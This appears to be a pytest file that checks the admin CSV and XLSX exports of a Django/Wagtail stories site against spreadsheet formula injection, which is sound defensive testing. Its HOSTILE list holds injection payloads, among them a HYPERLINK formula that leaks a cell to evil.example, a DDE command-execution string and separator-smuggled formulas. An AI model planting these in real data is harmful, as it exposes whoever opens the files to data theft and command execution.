"""No cell of any admin export can run as a spreadsheet formula, whatever the separator the
spreadsheet's locale splits on: the contributions inbox and the share report, in CSV and
XLSX, and Wagtail's own reports, which show titles typed by the public."""

import csv
import io
import re

from django.urls import reverse
from django.utils import timezone

import pytest
from openpyxl import load_workbook

from stories.models import Contribution, ShareCount
from tests.builders import make_story

pytestmark = pytest.mark.django_db

HOSTILE = [
    "Jean;=1+1",
    "Jean,=1+1",
    "Jean\t=1+1",
    "Jean\n=1+1",
    "Jean\r\n@SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    'Jean";=1+1;"',
    "Jean ; -1+1",
]
FORMULA_STARTS = "=+-@\t\r＝＋－＠﹦﹢﹣﹫"
BLANK = ' \u00a0\u3000\u200b\ufeff"'  # and the quote a wrong separator leaves in place


def runnable(cell):
    """Would any part of ``cell``, split at any separator, start a formula?"""
    if not isinstance(cell, str):
        return False
    for part in re.split(r"[;,\t\r\n]", cell):
        stripped = part.lstrip(BLANK)
        if stripped and stripped[0] in FORMULA_STARTS:
            return True
    return False


def runnable_at_start(cell):
    return isinstance(cell, str) and cell.lstrip(BLANK)[:1] in tuple(FORMULA_STARTS)


def csv_text(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8-sig")


def assert_csv_safe(text):
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not any(runnable(cell) for cell in cells), [c for c in cells if runnable(c)]
    # A spreadsheet that ignores the quotes and splits at any separator finds no formula.
    pieces = re.split(r"[;,\t\r\n]", text)
    assert not any(runnable_at_start(piece) for piece in pieces), [
        p for p in pieces if runnable_at_start(p)
    ]
    requoted = io.StringIO()
    csv.writer(requoted, quoting=csv.QUOTE_ALL).writerows(cells_by_row(text))
    assert text == requoted.getvalue()  # every cell between quotes


def cells_by_row(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_xlsx_safe(response):
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert not any(runnable(cell.value) for cell in cells), [
        c.value for c in cells if runnable(c.value)
    ]


@pytest.fixture
def admin_client_(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("admin", "a@example.org", "x"))
    return client


@pytest.fixture
def contributions(post_contribution):
    """One contribution per hostile value, in its name, years and story title."""
    post_contribution()
    first = Contribution.objects.get()
    first.page.title = HOSTILE[0]
    first.page.save()
    for number, value in enumerate(HOSTILE):
        copy = Contribution.objects.get(pk=first.pk)
        copy.pk = None
        for field in Contribution._meta.fields:
            if field.unique and not field.primary_key:
                setattr(copy, field.attname, f"X{number}{field.attname}"[: field.max_length])
        copy.name = copy.years_at_company = value
        copy.save()
    return Contribution.objects.all()


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_contributions_export_runs_no_formula(admin_client_, contributions, export):
    response = admin_client_.get("/admin/stories/contribution/", {"export": export})

    if export == "csv":
        text = csv_text(response)
        assert_csv_safe(text)
        names = [row["Nom"] for row in csv.DictReader(io.StringIO(text, newline=""))]
        assert "Jean;'=1+1" in names and "'@SUM(1+1)" in names  # the values are still there
    else:
        assert_xlsx_safe(response)


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_share_report_runs_no_formula(admin_client_, story_index, export):
    for value in HOSTILE:
        story = make_story(story_index, title=value)
        ShareCount.objects.create(page=story, network="x", day=timezone.localdate(), count=3)

    response = admin_client_.get(reverse("share_report"), {"export": export})

    if export == "csv":
        text = csv_text(response)
        assert_csv_safe(text)
        assert len(cells_by_row(text)) == len(HOSTILE) + 1
    else:
        assert_xlsx_safe(response)


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_wagtails_own_reports_run_no_formula(admin_client_, story_index, export):
    for value in HOSTILE:
        make_story(story_index, title=value)

    response = admin_client_.get(reverse("wagtailadmin_reports:site_history"), {"export": export})

    if export == "csv":
        assert_csv_safe(csv_text(response))
    else:
        assert_xlsx_safe(response)


def test_neutralising_twice_changes_nothing():
    from stories.exports import neutralise

    for value in HOSTILE:
        assert neutralise(neutralise(value)) == neutralise(value)
    assert neutralise("Jean-Pierre, 1968–2004") == "Jean-Pierre, 1968–2004"
    assert neutralise(42) == 42
